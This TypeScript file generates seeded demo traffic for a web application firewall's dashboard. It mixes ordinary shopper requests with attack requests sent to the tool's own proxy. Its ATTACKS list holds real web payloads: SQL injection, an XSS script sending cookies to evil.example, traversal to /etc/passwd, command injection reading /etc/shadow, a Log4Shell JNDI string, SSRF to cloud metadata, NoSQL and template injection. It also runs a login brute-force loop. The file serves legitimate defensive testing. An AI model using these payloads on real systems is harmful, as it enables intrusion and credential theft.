/**
 * Demo traffic for `palisade serve --demo`: a seeded mix of ordinary shoppers and attackers (SQLi, XSS,
 * traversal, command injection, Log4Shell, SSRF, NoSQL, scanners, a login brute force, honeypot probes)
 * sent through the proxy. Client addresses come from X-Forwarded-For, which the demo proxy trusts from
 * loopback, so events carry public addresses with geo and ASN.
 */
import { request } from 'node:http';
import { mulberry32 } from './prng.js';

interface DemoRequest {
  method: string;
  path: string;
  body?: string;
  type?: string;
  ua?: string;
}

const BROWSER_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148',
];

/** Public addresses spread over several countries and networks. */
const SHOPPERS = [
  '81.2.69.160',
  '89.160.20.128',
  '216.160.83.56',
  '2.125.160.216',
  '177.54.144.12',
  '8.8.4.4',
];
const ATTACKERS = [
  '175.16.199.7',
  '185.220.101.4',
  '45.155.205.233',
  '103.75.201.2',
  '196.12.2.3',
  '67.43.156.9',
];

const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';

const BENIGN: readonly DemoRequest[] = [
  { method: 'GET', path: '/' },
  { method: 'GET', path: '/search?q=rain+jacket' },
  { method: 'GET', path: "/search?q=O'Brien+boots" },
  { method: 'GET', path: '/product?id=3' },
  { method: 'GET', path: '/download?file=size-guide.pdf' },
  { method: 'POST', path: '/comments', type: FORM, body: 'text=Great+socks%2C+warm+%26+comfy%21' },
  { method: 'GET', path: '/api/products' },
  {
    method: 'POST',
    path: '/api/orders',
    type: JSON_TYPE,
    body: '{"items":[{"id":2,"qty":1}],"note":"ring twice"}',
  },
  { method: 'POST', path: '/login', type: FORM, body: 'user=alice&password=correct+horse+battery+staple' },
];

const ATTACKS: readonly DemoRequest[] = [
  { method: 'GET', path: '/product?id=1%20UNION%20SELECT%20username,password%20FROM%20users--' },
  { method: 'GET', path: '/search?q=%27%20OR%20%271%27%3D%271' },
  {
    method: 'POST',
    path: '/comments',
    type: FORM,
    body: 'text=%3Cscript%3Edocument.location%3D%27//evil.example/%27%2Bdocument.cookie%3C/script%3E',
  },
  { method: 'GET', path: '/search?q=%3Csvg%20onload%3Dalert(1)%3E' },
  { method: 'GET', path: '/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd' },
  { method: 'GET', path: '/download?file=manual.pdf%3Bcat%20/etc/shadow' },
  { method: 'GET', path: '/', ua: '${jndi:ldap://198.51.100.23:1389/Exploit}' },
  {
    method: 'POST',
    path: '/api/orders',
    type: JSON_TYPE,
    body: '{"items":[],"callback":"http://169.254.169.254/latest/meta-data/iam/"}',
  },
  { method: 'POST', path: '/api/orders', type: JSON_TYPE, body: '{"user":{"$ne":null},"items":[]}' },
  { method: 'GET', path: '/search?q={{7*7}}{{config.items()}}' },
  { method: 'GET', path: '/.git/HEAD', ua: 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' },
  { method: 'GET', path: '/wp-login.php', ua: 'Mozilla/5.0 zgrab/0.x' },
  { method: 'POST', path: '/wp-login.php', type: FORM, body: 'log=admin&pwd=admin123&wp-submit=Log+In' },
  { method: 'GET', path: '/.env', ua: 'python-requests/2.31.0' },
  { method: 'GET', path: '/search?q=test', ua: 'sqlmap/1.8#stable (https://sqlmap.org)' },
];

function send(target: URL, r: DemoRequest, ip: string, ua: string): Promise<number> {
  return new Promise((resolve) => {
    const body = r.body ? Buffer.from(r.body) : undefined;
    const req = request(
      new URL(r.path, target),
      {
        method: r.method,
        headers: {
          'user-agent': r.ua ?? ua,
          'x-forwarded-for': ip,
          ...(body ? { 'content-type': r.type ?? FORM, 'content-length': body.length } : {}),
        },
        timeout: 5000,
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      },
    );
    req.on('error', () => resolve(0));
    req.on('timeout', () => req.destroy());
    req.end(body);
  });
}

export interface DemoTraffic {
  stop(): void;
  /** Requests sent so far. */
  sent(): number;
}

/**
 * Sends `burst` requests at once (so the dashboard fills in seconds), then one request every
 * `intervalMs` until stopped: about one in four is an attack, and one attacker brute-forces /login.
 */
export function startDemoTraffic(
  target: URL,
  opts: { seed?: number; burst?: number; intervalMs?: number } = {},
): DemoTraffic {
  const next = mulberry32(opts.seed ?? 7);
  const rnd = () => next() / 4294967296;
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  let count = 0;
  let stopped = false;
  const one = (): Promise<number> => {
    count++;
    if (rnd() < 0.05) {
      const guess = pick(['123456', 'password', 'alice2024', 'qwerty', 'letmein']);
      return send(
        target,
        { method: 'POST', path: '/login', type: FORM, body: `user=alice&password=${guess}` },
        ATTACKERS[0]!,
        'python-requests/2.31.0',
      );
    }
    if (rnd() < 0.25) return send(target, pick(ATTACKS), pick(ATTACKERS), pick(BROWSER_UA));
    return send(target, pick(BENIGN), pick(SHOPPERS), pick(BROWSER_UA));
  };
  const burst = async (): Promise<void> => {
    for (let i = 0; i < (opts.burst ?? 60) && !stopped; i += 4)
      await Promise.all([one(), one(), one(), one()]);
  };
  let timer: NodeJS.Timeout | undefined;
  void burst().then(() => {
    if (!stopped) timer = setInterval(() => void one(), opts.intervalMs ?? 1000);
  });
  return {
    stop() {
      stopped = true;
      if (timer) clearInterval(timer);
    },
    sent: () => count,
  };
}
